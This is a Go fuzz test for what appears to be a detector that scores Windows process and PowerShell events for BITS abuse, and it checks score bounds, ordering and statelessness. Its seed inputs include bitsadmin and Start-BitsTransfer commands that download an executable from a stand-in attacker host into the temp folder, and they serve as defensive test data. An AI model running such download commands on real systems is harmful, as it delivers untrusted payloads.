package hardened

import (
	"slices"
	"testing"

	"bitsscore/src/detect"
)

// fuzzEvent lays the fuzzer's strings over the fields each source reads.
func fuzzEvent(names []string, code, cmd, image, ofn, parentCmd, remote, script string) []detect.Values {
	fields := map[string]string{
		"EventCode": code, "CommandLine": cmd, "Image": image, "OriginalFileName": ofn,
		"ParentImage": `C:\Windows\System32\svchost.exe`, "ParentCommandLine": parentCmd,
		"processPath": image, "url": remote, "RemoteName": remote, "LocalName": cmd, "name": ofn, "jobTitle": ofn,
		"ScriptBlockText": script, "Payload": script, "Data": script, "User": ofn, "jobOwner": ofn,
	}
	in := make([]detect.Values, len(names))
	for i, name := range names {
		if v := fields[name]; v != "" {
			in[i] = detect.Values{[]byte(v)}
		}
	}
	return in
}

// FuzzScore: no panics; RiskScore in 0..100 and the capped sum of the
// Indicators' weights (at most knownGoodCeiling after a known-good match);
// Indicators strictly sorted, each an indicator or a known-good entry; the
// SPL fields equal NewSPL's; a detector's result does not depend on the
// event it scored before. Seeds: testdata/fuzz/FuzzScore.
func FuzzScore(f *testing.F) {
	f.Add("1", `bitsadmin /transfer j https://evil.tld/a.exe %temp%\a.exe`, `C:\Windows\System32\bitsadmin.exe`, "bitsadmin.exe", "", "", "")
	f.Add("4104", "", "", "", "", "", `Start-BitsTransfer -Source https://evil.tld/a.exe -Destination $env:TEMP\a.exe`)
	known := DefaultKnownGood()
	d := New(known)
	other := New(known)
	spl := detect.NewSPL()
	f.Fuzz(func(t *testing.T, code, cmd, image, ofn, parentCmd, remote, script string) {
		in := fuzzEvent(d.Inputs(), code, cmd, image, ofn, parentCmd, remote, script)
		out := make([]detect.Values, len(d.Outputs()))
		d.Score(in, out)
		checkInvariants(t, d, known, out)
		got := cloneValues(out)
		checkNeverWeaker(t, "fuzz", d, spl, in)

		splIn := make([]detect.Values, len(spl.Inputs()))
		for j, name := range spl.Inputs() {
			splIn[j] = in[slices.Index(d.Inputs(), name)]
		}
		splOut := make([]detect.Values, len(spl.Outputs()))
		spl.Score(splIn, splOut)
		if want := cloneValues(splOut); !slices.EqualFunc(got[:len(want)], want, slices.Equal) {
			t.Fatalf("SPL fields %q, NewSPL %q", got[:len(want)], want)
		}

		// A fresh-state detector and one that just scored another event
		// must agree: no state leaks between events.
		other.Score(fuzzEvent(d.Inputs(), "1", script, cmd, image, remote, parentCmd, ofn), make([]detect.Values, len(d.Outputs())))
		again := make([]detect.Values, len(d.Outputs()))
		other.Score(in, again)
		if g := cloneValues(again); !slices.EqualFunc(g, got, slices.Equal) {
			t.Fatalf("after another event: %q, fresh: %q", g, got)
		}
	})
}
